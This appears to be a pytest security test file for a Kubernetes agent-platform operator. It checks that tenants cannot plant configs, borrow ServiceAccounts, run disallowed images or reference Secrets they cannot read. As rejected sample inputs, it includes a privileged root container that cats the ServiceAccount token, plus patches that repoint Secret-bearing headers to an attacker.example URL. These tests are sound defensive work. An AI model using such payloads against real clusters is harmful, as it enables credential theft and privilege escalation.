"""What a tenant of the agent platform can reach, tried as a tenant with kubectl: an account of its
own, bound to a Role that lets it create AgentRuns and ConfigMaps in its namespace, and nothing
else (no pods, no ServiceAccounts). Whatever it plants under a run's names is never used by the
operator: the run fails, naming what is in the way, and no Job is made. A tenant who may write
Agents, MCPServers and PersonaPacks runs only the images AgentPolicies allow and names only the
Secrets it may read."""

from __future__ import annotations

import asyncio
import json
import pathlib
from typing import Any

import agentplatform
import pytest
import yaml
from agentobjects import agent, agent_run, condition, exists, finished, runtime
from agentplatform.api.v1alpha1 import Agent, AgentRun, PersonaPack
from agentplatform.controllers.builders import config_map_name
from agentplatform.controllers.policy import image_allowed

import kubeloop
from kubeloop import kinds
from kubeloop.testing import ServerThread, eventually, webhooks_installed
from tests.accounts import account_token
from tests.apiserver.test_kubectl import KUBECTLS, Kubectl


async def tenant_kubectl(
    client: kubeloop.APIClient,
    cluster: ServerThread,
    namespace: str,
    home: pathlib.Path,
    rules: list[dict[str, Any]],
) -> Kubectl:
    """kubectl as ServiceAccount ``tenant`` of ``namespace``, allowed ``rules`` there alone."""
    token = await account_token(client, "tenant", namespace, rules)
    return Kubectl(KUBECTLS[-1], kubeconfig_as(cluster, token, namespace, home), home)


def kubeconfig_as(cluster: ServerThread, token: str, namespace: str, home: pathlib.Path) -> pathlib.Path:
    """The cluster's kubeconfig with ``token`` for its user and ``namespace`` for its context."""
    config = yaml.safe_load(pathlib.Path(cluster.kubeconfig).read_text())
    for user in config["users"]:
        user["user"] = {"token": token}
    for context in config["contexts"]:
        context["context"]["namespace"] = namespace
    path = home / "tenant.kubeconfig"
    path.write_text(yaml.safe_dump(config))
    return path


RUNS_AND_CONFIGMAPS = [
    {"apiGroups": ["agents.kubeloop.dev"], "resources": ["agentruns"], "verbs": ["create", "get", "list"]},
    {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["create", "get", "list"]},
]

PLANTED_RUNTIME = {
    "image": "attacker.example/tool:1",
    "command": ["/bin/sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
    "securityContext": {"privileged": True, "runAsUser": 0},
}


async def test_a_planted_input_config_map_is_never_run(
    cluster: ServerThread,
    client: kubeloop.APIClient,
    platform: object,
    namespace: str,
    tmp_path: pathlib.Path,
) -> None:
    await client.create(runtime(f"{namespace}-rt"))
    await client.create(agent("helper", namespace, f"{namespace}-rt"))
    kubectl = await tenant_kubectl(client, cluster, namespace, tmp_path, RUNS_AND_CONFIGMAPS)
    assert (
        await asyncio.to_thread(kubectl, "auth", "can-i", "create", "pods", check=False)
    ).stdout.strip() == "no"
    # A snapshot as the operator writes one, but the tenant's: its runtime runs a privileged root
    # container of the tenant's image.
    planted = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "evil-input"},
        "data": {
            "task": "x",
            "agent.json": json.dumps(agent("helper", namespace, f"{namespace}-rt")["spec"]),
            "runtime.json": json.dumps(PLANTED_RUNTIME),
        },
    }
    await asyncio.to_thread(kubectl, "apply", "-f", "-", stdin=yaml.safe_dump(planted))
    run = agent_run("evil", namespace, "helper")
    del run["metadata"]["namespace"]
    await asyncio.to_thread(kubectl, "apply", "-f", "-", stdin=yaml.safe_dump(run))
    failed = await finished(client, "evil", namespace)
    assert failed.status is not None and (failed.status.phase, failed.status.reason) == (
        "Failed",
        "NameConflict",
    )
    assert failed.status.message == (
        "ConfigMap evil-input exists and is not this run's: the run does not use what it did not make "
        "(delete it, or give the run another name)"
    )
    assert not await exists(client, kinds.Job, "evil", namespace)
    assert not await exists(client, kinds.ServiceAccount, "evil", namespace)
    shown = await asyncio.to_thread(kubectl, "get", "agentrun", "evil", "-o", "jsonpath={.status.reason}")
    assert shown.stdout == "NameConflict"


async def test_a_run_never_acts_as_an_account_it_did_not_make(
    cluster: ServerThread,
    client: kubeloop.APIClient,
    platform: object,
    namespace: str,
    tmp_path: pathlib.Path,
) -> None:
    await client.create(runtime(f"{namespace}-rt"))
    await client.create(agent("helper", namespace, f"{namespace}-rt"))
    # The namespace's deployer account, with rights the tenant does not have.
    await client.create(
        {
            "apiVersion": "v1",
            "kind": "ServiceAccount",
            "metadata": {"name": "deployer", "namespace": namespace},
        }
    )
    kubectl = await tenant_kubectl(client, cluster, namespace, tmp_path, RUNS_AND_CONFIGMAPS)
    run = agent_run("deployer", namespace, "helper")
    del run["metadata"]["namespace"]
    await asyncio.to_thread(kubectl, "apply", "-f", "-", stdin=yaml.safe_dump(run))
    failed = await finished(client, "deployer", namespace)
    assert failed.status is not None and (failed.status.phase, failed.status.reason) == (
        "Failed",
        "NameConflict",
    )
    assert failed.status.message is not None and failed.status.message.startswith(
        "ServiceAccount deployer exists and is not this run's"
    )
    assert not await exists(client, kinds.Job, "deployer", namespace)
    # The run made nothing it could act through either, and took nothing over.
    account = await client.get(kinds.ServiceAccount, "deployer", namespace=namespace)
    assert not account["metadata"].get("ownerReferences")
    # Another run of the tenant, whose names are free, runs as usual.
    fine = agent_run("fine", namespace, "helper")
    del fine["metadata"]["namespace"]
    await asyncio.to_thread(kubectl, "apply", "-f", "-", stdin=yaml.safe_dump(fine))
    done = await finished(client, "fine", namespace)
    assert done.status is not None and done.status.phase == "Succeeded", done.status
    job = await client.get(kinds.Job, "fine", namespace=namespace)
    assert job["spec"]["template"]["spec"]["serviceAccountName"] == "fine"
    assert isinstance(await client.get(AgentRun, "fine", namespace=namespace), AgentRun)


@pytest.mark.parametrize(
    ("image", "prefix", "allowed"),
    [
        ("ghcr.io/acme/tool:1", "ghcr.io/acme/", True),
        ("ghcr.io/acme/tool:1", "ghcr.io/acme", True),
        ("ghcr.io/acme:1", "ghcr.io/acme", True),
        ("ghcr.io/acme@sha256:abc", "ghcr.io/acme", True),
        ("ghcr.io/acme", "ghcr.io/acme", True),
        ("ghcr.io/acme-evil/tool:1", "ghcr.io/acme", False),
        ("ghcr.io/acmecorp:1", "ghcr.io/acme", False),
        ("ghcr.io/acme-evil/tool:1", "ghcr.io/acme/", False),
        ("evil.io/ghcr.io/acme/tool", "ghcr.io/acme", False),
    ],
)
def test_image_prefixes_match_whole_path_segments(image: str, prefix: str, allowed: bool) -> None:
    assert image_allowed(image, [prefix]) is allowed


WRITERS = [
    {"apiGroups": ["agents.kubeloop.dev"], "resources": ["agents", "mcpservers", "personapacks"],
     "verbs": ["create", "get", "list", "update", "patch"]},
]  # fmt: skip


async def test_a_tenant_runs_only_allowed_images_and_names_only_secrets_it_may_read(
    cluster: ServerThread, client: kubeloop.APIClient, namespace: str, tmp_path: pathlib.Path
) -> None:
    """A tenant may write Agents, MCPServers and PersonaPacks, and read no Secret: every image
    the platform would run for it is held to allowedImages (by whole path segments), and every
    Secret it names must be one it may get (a SubjectAccessReview as the tenant)."""
    await client.create(runtime(f"{namespace}-rt"))  # ghcr.io/example/agent:1
    await client.create(
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db-admin", "namespace": namespace},
         "stringData": {"password": "s3cret"}}
    )  # fmt: skip
    await client.create(
        {"apiVersion": "agents.kubeloop.dev/v1alpha1", "kind": "AgentPolicy",
         "metadata": {"name": "images", "namespace": namespace},
         "spec": {"allowedImages": ["ghcr.io/example", "ghcr.io/kubeloop-dev/"]}}
    )  # fmt: skip
    kubectl = await tenant_kubectl(client, cluster, namespace, tmp_path, WRITERS)
    manager = kubeloop.Manager(client, webhook_server=kubeloop.webhook.WebhookServer(port=0))
    agentplatform.setup(manager, enforce_policies=True)
    user = f"system:serviceaccount:{namespace}:tenant"

    async def apply(obj: dict[str, Any]) -> Any:
        body = {**obj, "metadata": {k: v for k, v in obj["metadata"].items() if k != "namespace"}}
        return await asyncio.to_thread(kubectl, "apply", "-f", "-", stdin=yaml.safe_dump(body), check=False)

    def forbidden(path: str, secret: str) -> str:
        return (
            f'{path}: Forbidden: User "{user}" cannot get Secret "{secret}" in namespace "{namespace}": '
            "the platform would hand it to pods"
        )

    async with manager, webhooks_installed(client, manager):
        refused = await apply(agent("keyed", namespace, f"{namespace}-rt"))  # names Secret llm
        assert refused.returncode == 1 and forbidden("spec.model.authSecretRef.name", "llm") in refused.stderr
        assert not await exists(client, Agent, "keyed", namespace)
        # Allowed to read llm (and only llm): the agent is made; db-admin through a variable is not.
        await client.create(
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "llm", "namespace": namespace},
             "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"], "resourceNames": ["llm"]}]}
        )  # fmt: skip
        await client.create(
            {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "llm", "namespace": namespace},
             "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "llm"},
             "subjects": [{"kind": "ServiceAccount", "name": "tenant", "namespace": namespace}]}
        )  # fmt: skip
        made = await apply(agent("keyed", namespace, f"{namespace}-rt"))
        assert made.returncode == 0, made.stderr
        sneaky = agent("sneaky", namespace, f"{namespace}-rt")
        sneaky["spec"]["env"] = [
            {"name": "DB", "valueFrom": {"secretKeyRef": {"name": "db-admin", "key": "password"}}}
        ]
        refused = await apply(sneaky)
        assert forbidden("spec.env[0].valueFrom.secretKeyRef.name", "db-admin") in refused.stderr
        channel = agent("chatty", namespace, f"{namespace}-rt")
        channel["spec"]["channels"] = [
            {"type": "webhook", "secretRef": {"name": "llm"}, "image": "ghcr.io/example-evil/channel:1"}
        ]
        refused = await apply(channel)
        assert (
            'spec.channels[0].image: Invalid value: "ghcr.io/example-evil/channel:1": its webhook channel'
            + "'s image "
            "ghcr.io/example-evil/channel:1 is not allowed by AgentPolicy images (allowed: ghcr.io/example, ghcr.io/kubeloop-dev/)"
        ) in refused.stderr
        channel["spec"]["channels"][0].pop("image")  # the platform's own channel image: allowed
        made = await apply(channel)
        assert made.returncode == 0, made.stderr
        # An MCP server runs its image whether or not an agent uses it.
        tool = {"apiVersion": "agents.kubeloop.dev/v1alpha1", "kind": "MCPServer",
                "metadata": {"name": "tool", "namespace": namespace}, "spec": {"image": "attacker.example/tool:1"}}  # fmt: skip
        refused = await apply(tool)
        assert (
            'spec.image: Invalid value: "attacker.example/tool:1": not allowed by AgentPolicy images'
            in refused.stderr
        )
        tool["spec"] = {
            "image": "ghcr.io/example/tool:1",
            "env": [{"name": "DB", "valueFrom": {"secretKeyRef": {"name": "db-admin", "key": "password"}}}],
        }
        refused = await apply(tool)
        assert forbidden("spec.env[0].valueFrom.secretKeyRef.name", "db-admin") in refused.stderr
        # A server at a URL sends its headers there: the same holds for their Secrets.
        remote = {"apiVersion": "agents.kubeloop.dev/v1alpha1", "kind": "MCPServer",
                  "metadata": {"name": "remote", "namespace": namespace},
                  "spec": {"url": "https://mcp.example.com/mcp", "headers": [
                      {"name": "Authorization", "secretKeyRef": {"name": "db-admin", "key": "password"}}]}}  # fmt: skip
        refused = await apply(remote)
        assert forbidden("spec.headers[0].secretKeyRef.name", "db-admin") in refused.stderr
        remote["spec"]["headers"][0]["secretKeyRef"] = {"name": "llm", "key": "token"}
        made = await apply(remote)
        assert made.returncode == 0, made.stderr
        # What an admin keyed with db-admin, the tenant may edit, but not point somewhere else.
        trusted = {**remote, "metadata": {"name": "trusted", "namespace": namespace},
                   "spec": {**remote["spec"], "headers": [
                       {"name": "Authorization", "secretKeyRef": {"name": "db-admin", "key": "password"}}]}}  # fmt: skip
        keyed_agent = agent("admins", namespace, f"{namespace}-rt")
        keyed_agent["spec"]["model"]["authSecretRef"] = {"name": "db-admin", "key": "password"}
        for obj in (trusted, keyed_agent):
            await client.create(obj)
        for kind, name, change, path in (
            ("mcpserver", "trusted", {"url": "https://attacker.example/mcp"}, "spec.headers[0].secretKeyRef.name"),
            ("agent", "admins", {"model": {"baseURL": "https://attacker.example/v1"}}, "spec.model.authSecretRef.name"),
        ):
            patch = json.dumps({"spec": change})
            moved = await asyncio.to_thread(kubectl, "patch", kind, name, "--type=merge", "-p", patch, check=False)
            assert moved.returncode == 1 and forbidden(path, "db-admin") in moved.stderr, moved.stderr
        edited = await asyncio.to_thread(
            kubectl, "patch", "agent", "admins", "--type=merge", "-p", '{"spec": {"systemPrompt": "Be brief."}}', check=False
        )
        assert edited.returncode == 0, edited.stderr
        # A persona pack's agents are made by the operator: they are checked as the pack's writer's.
        pack = {"apiVersion": "agents.kubeloop.dev/v1alpha1", "kind": "PersonaPack",
                "metadata": {"name": "team", "namespace": namespace},
                "spec": {"agents": [{"name": "ops", "spec": sneaky["spec"]}]}}  # fmt: skip
        refused = await apply(pack)
        assert (
            forbidden("spec.agents[0].spec.env[0].valueFrom.secretKeyRef.name", "db-admin") in refused.stderr
        )
        assert not await exists(client, PersonaPack, "team", namespace)


async def test_objects_of_an_agents_names_that_someone_else_made_are_left_alone(
    client: kubeloop.APIClient, platform: object, namespace: str
) -> None:
    """A Service ``web`` made by someone else is not taken over by Agent ``web`` (its selector
    would pick the agent's pods, and deleting the agent would delete it): the agent reports
    NameConflict, and the Service stays as it was. The same
    for a skill pack's ConfigMap."""
    await client.create(runtime(f"{namespace}-rt"))
    theirs = await client.create(
        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web", "namespace": namespace},
         "spec": {"selector": {"app": "shop"}, "ports": [{"port": 80}]}}
    )  # fmt: skip
    await client.create(agent("web", namespace, f"{namespace}-rt"))

    async def conflicted() -> None:
        found = await client.get(Agent, "web", namespace=namespace)
        assert condition(found, "Ready") == ("False", "NameConflict"), found.status

    await eventually(conflicted, timeout=20)
    found = await client.get(Agent, "web", namespace=namespace)
    message = next(c.message for c in found.status.conditions or () if c.type == "Ready")  # type: ignore[union-attr]
    assert message == "Service web exists and is not controlled by Agent web: left alone"
    service = await client.get(kinds.Service, "web", namespace=namespace)
    assert service["metadata"]["resourceVersion"] == theirs["metadata"]["resourceVersion"]
    assert service["spec"]["selector"] == {"app": "shop"} and not service["metadata"].get("ownerReferences")

    tools = await client.create(
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": config_map_name("tools"), "namespace": namespace},
         "data": {"keep": "me"}}
    )  # fmt: skip
    await client.create(
        {"apiVersion": "agents.kubeloop.dev/v1alpha1", "kind": "SkillPack",
         "metadata": {"name": "tools", "namespace": namespace}, "spec": {"skills": [{"name": "a", "text": "b"}]}}
    )  # fmt: skip

    async def warned() -> None:
        events = await client.list(
            kinds.Event, namespace=namespace, field_selector="involvedObject.name=tools"
        )
        assert [e["reason"] for e in events] == ["NameConflict"], events

    await eventually(warned, timeout=20)
    kept = await client.get(kinds.ConfigMap, config_map_name("tools"), namespace=namespace)
    assert (
        kept["data"] == {"keep": "me"}
        and kept["metadata"]["resourceVersion"] == tools["metadata"]["resourceVersion"]
    )
    await client.delete(Agent, "web", namespace=namespace)

    async def agent_gone() -> None:
        assert not await exists(client, Agent, "web", namespace)

    await eventually(agent_gone, timeout=20)
    assert await exists(client, kinds.Service, "web", namespace)  # not the agent's to take along
